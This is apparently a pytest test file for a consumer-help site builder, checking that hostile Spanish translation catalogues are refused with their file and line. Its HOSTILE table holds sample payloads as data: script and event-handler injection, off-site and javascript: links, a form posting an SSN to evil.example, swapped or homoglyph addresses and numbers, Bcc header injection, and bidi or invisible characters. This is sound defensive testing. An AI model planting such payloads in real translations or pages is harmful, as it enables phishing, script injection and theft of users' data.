"""A hostile catalogue changes neither where mail goes nor what runs: the build refuses it with its place.

None of these tests asks `translations check`: the build does not need it.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import polib
import pytest

from contact_help import building
from contact_help.locales import locale
from contact_help.problems import InputError
from contact_help.translating import catalogues

ENGLISH = {
    "text": "Ask why the fee was charged.",
    "mail": "Write to help@example.org.",
    "call": "Call (855) 411-2372.",
    "web": "Go to consumerfinance.gov.",
    "link": "See [the letters](write/index.md).",
    "letter": "Please answer me in writing.",
}
HOSTILE = {
    "a script": ("text", "Pregunte <script src=//evil.example></script>."),
    "an event handler": ("text", "Pregunte <img src=x onerror=alert(1)>."),
    "an event handler by attribute list": ("link", "Vea [las cartas](write/index.md){: onclick=alert(1) }."),
    "a style by attribute list": ("text", "Pregunte. { style=position:fixed }"),
    "javascript:": ("link", "Vea [las cartas](javascript:alert(1))."),
    "a link off the site": ("link", "Vea [las cartas](https://evil.example/)."),
    "a link without a scheme": ("link", "Vea [las cartas](//evil.example)."),
    "a mailto link": ("text", "[Escriba](mailto:thief@evil.example)."),
    "an added link": ("link", "Vea [las cartas](write/index.md) [aquí](https://evil.example)."),
    "raw HTML": ("text", "Pregunte <b>por qué</b>."),
    "a form": ("text", "<form action=https://evil.example><input name=ssn></form>"),
    "a style": ("text", "<style>*{display:none}</style>"),
    "a comment that hides the rest": ("text", "Pregunte <!-- "),
    "an address hidden in references": ("text", "Escriba a thief&#64;evil&#46;example."),
    "a swapped address": ("mail", "Escriba a help@examp1e.org."),
    "a swapped address in fullwidth letters": ("mail", "Escriba a help＠evil．org."),
    "an added address": ("text", "Pregunte a thief@evil.example."),
    "a swapped number": ("call", "Llame al (855) 411-2373."),
    "a swapped number in other digits": ("call", "Llame al ٨٥٥٤١١٢٣٧٣."),
    "an added number": ("text", "Pregunte al 1-800-555-0100."),
    "a swapped site": ("web", "Vaya a consumerfinance.com."),
    "a site with a Cyrillic letter": ("web", "Vaya a соnsumerfinance.gov."),
    "a line for another header": ("letter", "Conteste.\\nBcc: thief@evil.example"),
    "a carriage return": ("letter", "Conteste.\\rSubject: x"),
    "a line separator": ("letter", "Conteste.\u2028Bcc"),
    "an override of direction": ("call", "Llame al \u202e2732-114 (558)\u202c."),
    "an override by reference": ("text", "Pregunte &#x202e;euq rop."),
    "an isolate left open": ("text", "Pregunte \u2067por qué."),
    "letters of no width": ("text", "Pre\u200bgunte."),
    "text in tags": ("text", "Pregunte\U000e0068\U000e0069."),
    "a gigantic message": ("text", "Pregunte " * 200_000),
    "a placeholder to a stranger": ("text", "Pregunte a {servicer}."),
    "an unfinished placeholder": ("text", "Pregunte a {servicer"),
}
GOOD = {"text": "Pregunte por qué.", "call": "Llame al (855) 411-2372.", "letter": "Conteste por escrito."}


def site_catalogue(folder: Path, entries: str, *, plural: str = "") -> Path:
    """Catalogues of Spanish below `folder`/locales whose site catalogue holds `entries`."""
    head = (
        'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n'
        f'"Plural-Forms: {plural or locale("es").plural_forms}\\n"\n\n'
    )
    for domain in catalogues.DOMAINS:
        path = catalogues.path(folder / "locales", locale("es"), domain)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(head + (entries if domain == "site" else ""), encoding="utf-8")
    return catalogues.path(folder / "locales", locale("es"), "site")


def entry(msgid: str, msgstr: str) -> str:
    return f'msgid "{msgid}"\nmsgstr "{msgstr}"\n\n'


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_message_is_never_published(tmp_path: Path, name: str) -> None:
    key, msgstr = HOSTILE[name]
    if "\u2028" in msgstr:  # a PO reader would take it for the end of a line: the whole file is refused
        site_catalogue(tmp_path, entry(ENGLISH[key], msgstr))
        with pytest.raises(InputError, match="hidden line break"):
            catalogues.load(tmp_path / "locales", locale("es"))
        return
    site_catalogue(tmp_path, entry("Fee", "Cargo") + entry(ENGLISH[key], msgstr))
    found = catalogues.load(tmp_path / "locales", locale("es"))
    assert found.find(ENGLISH[key]) is None
    assert found.find("Fee") == "Cargo"
    (problem,) = found.held_back
    assert problem.place.endswith("es/LC_MESSAGES/site.po")
    assert problem.line > 1
    assert len(str(problem)) < 1000  # the reason quotes no gigantic text


@pytest.mark.parametrize("key", GOOD)
def test_an_honest_message_beside_it_is_published(tmp_path: Path, key: str) -> None:
    site_catalogue(tmp_path, entry(ENGLISH[key], GOOD[key]))
    found = catalogues.load(tmp_path / "locales", locale("es"))
    assert (found.find(ENGLISH[key]), found.held_back) == (GOOD[key], ())


def test_the_build_refuses_all_of_them_at_once_each_with_its_line(project: Callable[..., Path]) -> None:
    folder = project("en", "es")
    path = catalogues.path(folder / "locales", locale("es"), "site")
    text, lines = path.read_text(encoding="utf-8").rstrip("\n") + "\n\n", []
    for number, (key, msgstr) in enumerate(HOSTILE.values()):
        if "\u2028" in msgstr:
            continue
        lines.append(text.count("\n") + 1)
        text += f'msgctxt "{number}"\n' + entry(ENGLISH[key], msgstr)
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InputError) as caught:
        building.build(folder)
    for line in lines:
        assert f"es/LC_MESSAGES/site.po:{line}: " in str(caught.value)
    assert not (folder / "site").exists()


PLURAL = """\
msgctxt "unit"
msgid "{number} day"
msgid_plural "{number} days"
msgstr[0] "{number} día"
msgstr[1] "{number} días"
"""


@pytest.mark.parametrize(
    "header",
    [
        "nplurals=2; plural=(n == 1);",  # one and many would change places
        "nplurals=2; plural=n > 1;",
        "nplurals=2; plural=().__class__;",
        "nplurals=99999; plural=n;",
        "nplurals=1; plural=0;",  # fewer forms than the message has
        "x",
    ],
)
def test_plural_forms_under_a_wrong_header_are_never_published(tmp_path: Path, header: str) -> None:
    site_catalogue(tmp_path, PLURAL, plural=header)
    found = catalogues.load(tmp_path / "locales", locale("es"))
    assert found.plurals == {}
    (problem,) = found.held_back
    assert (Path(problem.place).name, problem.line) == ("site.po", 6)
    assert "the header counts in another way" in problem.what


def test_plural_forms_under_the_same_rule_in_other_words_are(tmp_path: Path) -> None:
    site_catalogue(tmp_path, PLURAL, plural="nplurals=2; plural=(n == 1 ? 0 : 1);")
    assert len(catalogues.load(tmp_path / "locales", locale("es")).plurals) == 1


def test_text_that_is_not_utf8_is_refused_with_its_line(tmp_path: Path) -> None:
    path = site_catalogue(tmp_path, entry("Fee", "Cargo"))
    path.write_bytes(path.read_bytes().replace(b"Cargo", b"Cargo \xe9\xe8"))
    with pytest.raises(InputError, match=r"site\.po:7: byte \d+ is not UTF-8 text"):
        catalogues.load(tmp_path / "locales", locale("es"))


def test_a_gigantic_file_is_refused_before_it_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = site_catalogue(tmp_path, "#" * (16 * 1024 * 1024))
    monkeypatch.setattr(polib, "pofile", lambda *_args, **_kwargs: pytest.fail("it was read"))
    with pytest.raises(InputError, match="are no catalogue"):
        catalogues.read(path)
